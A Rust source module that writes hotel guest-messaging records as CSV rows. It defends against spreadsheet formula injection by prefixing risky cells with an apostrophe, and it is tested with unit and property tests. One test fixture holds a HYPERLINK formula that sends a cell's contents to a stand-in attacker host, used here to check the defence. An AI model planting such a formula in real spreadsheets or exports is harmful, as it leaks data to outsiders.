//! Messages as CSV rows (UTF-8, a header row, RFC 4180 quoting by the writer, ISO 8601
//! times), so a CSM can open a list of messages in a spreadsheet: the console's CSV
//! download and `sentlog export` write the same records.
//!
//! CSV formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or
//! `@` as a formula (tab and carriage return lead there too), and guest names and
//! campaign ids come from outside. Every such cell is written with a leading `'`, as
//! OWASP's CSV-injection guidance says, so it opens as text. That includes E.164
//! phones: written bare, `+33612345678` opens as the number 33612345678, losing its
//! `+`; written `'+33612345678`, it stays text with every digit and the `+`.
use chrono::{DateTime, NaiveDate, Utc};

use crate::domain::error_category::ErrorCategory;
use crate::domain::message::{Message, MessageCategory};

pub const HEADER: [&str; 28] = [
    "id",
    "hotel_id",
    "external_id",
    "created_at",
    "status",
    "status_label_fr",
    "channel",
    "recipient_phone",
    "phone_valid",
    "recipient_email",
    "guest_name",
    "campaign_id",
    "campaign_name",
    "check_in_date",
    "check_out_date",
    "provider",
    "provider_message_id",
    "template_name",
    "error_code",
    "error_category",
    "error_message",
    "status_changed_at",
    "sent_at",
    "delivered_at",
    "read_at",
    "failed_at",
    "pms_reservation_id",
    "category",
];

fn time(t: Option<DateTime<Utc>>) -> String {
    t.map(|d| d.to_rfc3339_opts(chrono::SecondsFormat::Micros, true))
        .unwrap_or_default()
}

fn date(d: Option<NaiveDate>) -> String {
    d.map(|d| d.format("%Y-%m-%d").to_string())
        .unwrap_or_default()
}

/// A cell a spreadsheet opens as text, never as a formula (see the module doc).
pub fn neutralise(cell: String) -> String {
    match cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        true => format!("'{cell}"),
        false => cell,
    }
}

/// One CSV record of a message, in HEADER's order, every cell neutralised.
pub fn record(m: &Message) -> Vec<String> {
    let text = |t: &Option<String>| t.clone().unwrap_or_default();
    let cells = vec![
        m.id.clone(),
        m.hotel_id.clone(),
        m.external_id.clone(),
        time(Some(m.created_at)),
        m.status.name().to_string(),
        m.status.labels().0.to_string(),
        m.channel.name().to_string(),
        text(&m.recipient_phone),
        m.phone_valid.to_string(),
        text(&m.recipient_email),
        text(&m.guest_name),
        text(&m.campaign_id),
        text(&m.campaign_name),
        date(m.check_in_date),
        date(m.check_out_date),
        text(&m.provider),
        text(&m.provider_message_id),
        text(&m.template_name),
        text(&m.error_code),
        match m.error_category {
            ErrorCategory::None => String::new(),
            c => c.name().to_string(),
        },
        text(&m.error_message),
        time(Some(m.status_changed_at)),
        time(m.sent_at),
        time(m.delivered_at),
        time(m.read_at),
        time(m.failed_at),
        text(&m.pms_reservation_id),
        match m.category {
            MessageCategory::Unspecified => String::new(),
            c => c.name().to_string(),
        },
    ];
    cells.into_iter().map(neutralise).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formula_starters_open_as_text() {
        for (given, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+33612345678", "'+33612345678"),
            ("-1", "'-1"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Camille Martin", "Camille Martin"),
            ("2026-12-24", "2026-12-24"),
            ("", ""),
        ] {
            assert_eq!(neutralise(given.to_string()), written);
        }
    }

    proptest! {
        #[test]
        fn no_cell_starts_a_formula(cell in "\\PC{0,20}") {
            let out = neutralise(cell.clone());
            prop_assert!(!out.starts_with(['=', '+', '-', '@', '\t', '\r']));
            // Nothing is lost: the cell is the same text, marked or not.
            let marked = format!("'{}", cell);
            prop_assert!(out == cell || out == marked);
        }
    }
}
